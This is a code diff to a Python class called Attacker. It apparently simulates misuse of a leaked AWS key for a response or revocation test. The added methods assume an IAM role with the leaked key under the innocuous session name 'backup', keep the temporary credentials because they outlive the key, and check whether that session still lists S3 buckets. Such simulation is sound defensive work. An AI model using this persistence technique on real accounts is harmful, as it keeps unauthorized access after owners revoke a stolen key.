@@ -57,6 +57,8 @@ class Attacker:
     source_ip: str = "198.51.100.23"
     user_agent: str = "aws-cli/2.15.30 Python/3.11.8 Linux/6.1 exe/x86_64"
     session: Credentials | None = field(default=None, repr=False)
+    role: str = ""  # the ARN of one that the key may assume
+    role_session: Credentials | None = field(default=None, repr=False)
 
     def intrude(self) -> dict[str, str]:
         """What thieves do first: look around, mint a session, try to stay. API to outcome."""
@@ -84,6 +86,23 @@ class Attacker:
             secret=born["SecretAccessKey"],
             token=born["SessionToken"],
         )
+
+    def assume(self) -> None:
+        """Assume the role with the leaked key and keep the session: it outlives the key."""
+        born = self._as(self.leaked, "sts").assume_role(
+            RoleArn=self.role, RoleSessionName="backup"
+        )["Credentials"]
+        self.role_session = Credentials(
+            access_key_id=born["AccessKeyId"],
+            secret=born["SecretAccessKey"],
+            token=born["SessionToken"],
+        )
+
+    def try_role_session(self) -> str:
+        """``alive`` if the role's session still gets anything, else the AWS error code."""
+        if self.role_session is None:
+            return "NoSession"
+        return outcome(self._as(self.role_session, "s3").list_buckets)
 
     def try_key(self) -> str:
         """``alive`` if the leaked key still gets anything, else the AWS error code."""
